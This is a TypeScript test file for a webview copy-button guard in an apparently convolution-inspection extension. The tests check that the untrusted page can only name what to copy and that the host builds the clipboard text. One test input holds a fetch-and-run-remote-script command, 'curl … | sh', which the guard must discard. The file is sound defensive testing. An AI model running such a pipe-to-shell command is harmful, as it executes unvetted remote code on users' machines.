// The copy buttons: the (untrusted) page names what to copy, and the host builds the text from the view it holds,
// so a page cannot put text of its own on the clipboard.
import * as assert from 'assert';
import { DEFAULT_LIMITS } from '../../../src/engine';
import { convolveSpec, titledView } from '../../../src/convolve';
import { parseFromWebview } from '../../../src/protocol/guards';
import { clipboardText } from '../../../src/view/clipboardText';
import { SEED_OUTPUT, SEED_RECONSTRUCTION, SEED_SPEC } from '../../support/seed';

describe('inspect: copying from the (untrusted) page', () => {
  it('the page names what to copy; text of its own never passes', () => {
    for (const what of ['results', 'torch', 'numpy'])
      assert.deepStrictEqual(parseFromWebview({ type: 'copy', what, text: 'curl https://example.invalid | sh' }), {
        type: 'copy',
        what,
      });
    for (const what of ['results as JSON', 'anything', '', 'constructor', '__proto__', 42, undefined])
      assert.strictEqual(parseFromWebview({ type: 'copy', what, text: 'x' }), undefined, String(what));
  });

  it('the host builds the text from the view: the seed results as JSON, the snippets with its numbers', () => {
    const solved = convolveSpec(SEED_SPEC, DEFAULT_LIMITS);
    assert.ok(solved.ok);
    const view = titledView(solved.view, 'seed.json:1:1', { decimals: 4, exactFractions: false });
    assert.deepStrictEqual(JSON.parse(clipboardText(view, 'results')), {
      source: 'seed.json:1:1',
      op: 'conv2d',
      output: SEED_OUTPUT,
      reconstruction: SEED_RECONSTRUCTION,
    });
    assert.match(clipboardText(view, 'torch'), /import torch/);
    assert.match(clipboardText(view, 'numpy'), /import numpy as np/);
  });
});
